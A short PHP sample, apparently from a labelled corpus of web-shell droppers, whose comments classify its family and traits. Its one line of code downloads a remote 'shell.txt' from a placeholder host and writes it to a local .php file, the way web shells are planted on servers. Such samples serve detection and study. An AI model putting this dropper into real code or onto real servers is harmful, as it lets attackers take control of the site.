<?php
// Family: dropper/write-php
// Style: one-line fetcher of a shell kit from a remote site
// Trait: copy() of an http:// URL (example.org, reserved for documentation) to a local .php name
echo copy("http://example.org/shell.txt", "cache-x.php");
